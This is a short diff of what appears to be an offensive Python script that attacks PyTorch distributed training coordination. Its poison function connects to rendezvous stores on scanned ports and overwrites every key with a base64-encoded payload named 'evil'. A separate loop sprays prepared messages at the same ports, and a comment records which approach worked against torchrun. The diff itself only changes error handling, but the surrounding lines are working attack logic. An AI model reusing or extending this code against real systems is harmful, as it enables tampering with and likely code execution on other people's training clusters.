@@ -152,8 +152,8 @@ def poison(port):
                               wait_for_workers=False)
         for key in [*store.list_keys(), "torch.rendezvous.none"]:
             store.set(key, b64encode(evil))
-    except Exception:
-        pass
+    except (RuntimeError, OSError, ValueError) as error:
+        print(port, error, file=sys.stderr)
 
 for port in map(int, ports):
     for message in messages:
@@ -162,8 +162,8 @@ for port in map(int, ports):
                 one.sendall(message)
                 one.settimeout(0.5)
                 one.recv(1000)
-        except OSError:
-            pass
+        except OSError as error:
+            print(port, error, file=sys.stderr)
     # What worked on torchrun's own rendezvous; from a gloo port torch waits for an answer for ever.
     thread = threading.Thread(target=poison, args=(port,), daemon=True)
     thread.start()
